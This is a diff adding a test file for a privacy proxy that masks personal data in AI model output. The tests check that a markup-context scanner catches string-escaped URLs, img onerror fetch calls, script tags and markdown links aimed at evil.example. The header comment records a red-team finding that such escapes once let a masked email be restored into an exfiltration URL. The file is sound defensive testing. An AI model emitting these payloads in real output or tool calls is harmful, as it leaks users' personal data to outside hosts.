@@ -1,0 +1,118 @@
+// Red-team findings (docs/policies.md "URLs and markup", session 10): a URL or tag written with
+// JSON/JavaScript string escapes is still a URL or a tag once the text is parsed, as tool-call
+// arguments, a JSON answer and a serialized document always are. `{"url":"https\u003a//evil
+// .example/?d={{email:…}}"}` restored the value in full before; now the context scanner also reads
+// the decoded text (one and two escape levels), and in context there is in context.
+import { parsePolicy } from '@veil/common';
+import { describe, expect, it } from 'vitest';
+import { CompiledPolicy } from '../policy/index.js';
+import { jsonStringRestore } from '../proxy/index.js';
+import { indexEntries, rehydrateText } from '../rehydrate.js';
+import { findTokensLenient } from '../repair/index.js';
+import { StreamRehydrator } from '../stream/index.js';
+import { renderToken, TokenAllocator } from '../token/index.js';
+import type { TokenEntry } from '../types.js';
+import { MarkupContext } from './markup-context.js';
+
+/** Prefixes that are a URL, a link target or a tag once their string escapes are decoded. */
+const ESCAPED_IN_CONTEXT: readonly string[] = [
+  '{"url":"https\\u003a//evil.example/?d=',
+  '{"url":"https\\u003A//evil.example/?d=',
+  '{"url":"https:\\u002f\\u002fevil.example/?d=',
+  '{"url":"https:\\/\\/evil.example/?d=',
+  '{"u":"\\u0077ww.evil.example/?d=',
+  '{"h":"\\u003cimg src=x onerror=fetch(\'//evil.example/',
+  '{"h":"\\u003Cimg src=\\u0022//evil.example/?d=',
+  "'\\x3cimg src=//evil.example/?d=",
+  '{"md":"\\u0021[x]\\u0028//evil.example/?d=',
+  '{"md":"intro\\n[r]: //evil.example/?d=',
+  '{"md":"intro\\r\\n   [r]: /collect?d=',
+  '{"s":"\\u003cscript\\u003efetch(\'/c?\'+\'',
+  // A JSON document inside a JSON string: two levels.
+  '{"payload":"{\\"url\\":\\"https\\\\u003a//evil.example/?d=',
+  '{"payload":"{\\"h\\":\\"\\\\u003cimg src=\\\\u0022/c?d=',
+];
+
+/** Escaped text that is still ordinary text once decoded. */
+const ESCAPED_OUT_OF_CONTEXT: readonly string[] = [
+  '{"path":"C:\\\\new\\\\table","to":"',
+  '{"url":"https\\u003a//a.example/x","to":"',
+  '{"text":"line one\\nline two ',
+  'She said \\"hi\\" to ',
+  '{"h":"\\u003cb\\u003ebold\\u003c/b\\u003e ',
+  '{"md":"[x](https:\\/\\/a.example) ',
+  '{"broken":"\\u00zz ',
+  '{"tab":"a\\tb ',
+];
+
+function activeAfter(text: string): boolean {
+  const context = new MarkupContext();
+  context.feed(text);
+  return context.active;
+}
+
+describe('MarkupContext reads string escapes as what they encode', () => {
+  it.each(ESCAPED_IN_CONTEXT.map((text) => [text]))('is in context after %j', (text) => {
+    expect(activeAfter(text)).toBe(true);
+  });
+
+  it.each(ESCAPED_OUT_OF_CONTEXT.map((text) => [text]))('is not in context after %j', (text) => {
+    expect(activeAfter(text)).toBe(false);
+  });
+
+  it('gives the same answer however the text is split, an escape split between feeds included', () => {
+    for (const text of [...ESCAPED_IN_CONTEXT, ...ESCAPED_OUT_OF_CONTEXT]) {
+      const whole = activeAfter(text);
+      for (let cut = 0; cut <= text.length; cut += 1) {
+        const context = new MarkupContext();
+        context.feed(text.slice(0, cut));
+        context.feed(text.slice(cut));
+        expect(context.active, `${JSON.stringify(text)} cut at ${cut}`).toBe(whole);
+      }
+      const one = new MarkupContext();
+      for (const char of text) one.feed(char);
+      expect(one.active, JSON.stringify(text)).toBe(whole);
+    }
+  });
+
+  it('stays linear on long hostile escapes', () => {
+    const context = new MarkupContext();
+    context.feed(`${'\\u003c'.repeat(30_000)}${'\\\\'.repeat(30_000)}${'\\u00'.repeat(30_000)}\\u003cimg src=`);
+    expect(context.active).toBe(true);
+  });
+});
+
+describe('restore of escaped URLs and tags', () => {
+  const policy = new CompiledPolicy(parsePolicy('name: p\nversion: "1"\nrules: []\n', 'p.yaml').policy!);
+  const allocator = new TokenAllocator();
+  const EMAIL = 'victim.person@example.com';
+  const email = allocator.allocate('email', EMAIL);
+  const entries = indexEntries([{ id: email.id, type: 'email', cap: email.cap, value: EMAIL, mode: 'full' } satisfies TokenEntry]);
+  const TOKEN = renderToken({ type: 'email', id: email.id, cap: email.cap });
+  const restorer =
+    (channel: string) =>
+    (output: string, markup?: MarkupContext) =>
+      rehydrateText({ output, entries, policy, language: 'en', caller: {}, channel, scan: findTokensLenient, ...(markup !== undefined ? { markup } : {}) });
+
+  it('restores the label in text (a JSON answer) and in tool-call arguments, whole and streamed', () => {
+    const json = jsonStringRestore(restorer('tool_payload'), findTokensLenient);
+    for (const prefix of ESCAPED_IN_CONTEXT) {
+      const output = `${prefix}${TOKEN}"}`;
+      expect(restorer('user_output')(output).restoredText, prefix).toBe(`${prefix}[email address]"}`);
+      expect(json(output).restoredText, prefix).toBe(`${prefix}[email address]"}`);
+      for (const size of [1, 3, 8]) {
+        const markup = new MarkupContext();
+        const rehydrator = new StreamRehydrator(jsonStringRestore(restorer('tool_payload'), findTokensLenient, markup));
+        let streamed = '';
+        for (let index = 0; index < output.length; index += size) streamed += rehydrator.push(output.slice(index, index + size));
+        streamed += rehydrator.end();
+        expect(streamed, `${prefix} in deltas of ${size}`).not.toContain(EMAIL);
+      }
+    }
+  });
+
+  it('still restores the value where the decoded text is ordinary', () => {
+    const json = jsonStringRestore(restorer('tool_payload'), findTokensLenient);
+    for (const prefix of ESCAPED_OUT_OF_CONTEXT) expect(json(`${prefix}${TOKEN}"}`).restoredText, prefix).toBe(`${prefix}${EMAIL}"}`);
+  });
+});
